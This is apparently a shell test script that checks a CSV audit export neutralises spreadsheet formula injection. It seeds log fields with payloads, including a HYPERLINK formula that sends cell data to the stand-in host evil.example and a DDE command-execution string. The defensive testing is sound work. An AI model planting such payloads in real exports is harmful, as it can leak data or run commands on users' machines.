#!/usr/bin/env bash
# `audit export --format csv` must not hand a spreadsheet a formula: route names,
# destinations, purposes and categories that begin with = + - @ (or a tab or CR)
# come out as text with a leading ', every other cell exactly as logged.
source "$(dirname "$0")/lib.sh"

L=$WORK/audit.log
python3 - "$L" <<'PY'
import json, sys
evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|" /C calc"!A0',
        '-2+3', '@SUM(1,2)', '\tx=1', '\r=1+1']
lines = []
for i, e in enumerate(evil):
    ob = {"route": e, "destination": "site/" + str(i), "purpose": e,
          "categories": [e], "count": i + 1}
    ev = {"seq": i + 1, "time": "2026-11-23T08:13:17.370Z", "actor": "gateway",
          "action": "flow.summary", "object": ob, "prev": "0" * 64}
    lines.append(json.dumps(ev, separators=(",", ":")))
ok = {"route": "occupancy", "destination": "site/a", "purpose": "space planning, counts",
      "categories": ["zone"], "count": 7}
lines.append(json.dumps({"seq": 7, "time": "2026-11-23T08:13:18.370Z", "actor": "gateway",
                         "action": "flow.summary", "object": ok, "prev": "0" * 64},
                        separators=(",", ":")))
open(sys.argv[1], "w").write("\n".join(lines) + "\n")
PY
"$FAIRGATE" audit export "$L" --format csv --out "$WORK/export.csv" 2>"$WORK/export.log" ||
    fail "export failed"
python3 - "$WORK/export.csv" <<'PY' || fail "a formula cell reached the CSV"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
assert rows[0][:4] == ["seq", "time", "actor", "action"], rows[0]
assert len(rows) == 8, len(rows)
for r in rows[1:7]:
    for cell in (r[4], r[6], r[7]):  # route, purpose, categories
        assert cell.startswith("'"), ("not neutralised", cell)
        assert cell[1] in "=+-@\t\r", cell
    assert r[5].startswith("site/"), r[5]
    assert r[8] == r[0], ("count changed", r)
last = rows[7]
assert last[4:9] == ["occupancy", "site/a", "space planning, counts", "zone", "7"], last
# nothing else in the file starts a cell with a formula character
for r in rows[1:]:
    for cell in r:
        assert not cell or cell[0] not in "=+-@\t\r", ("formula cell", cell)
PY
pass "csv export neutralises formula cells and keeps the others as logged"
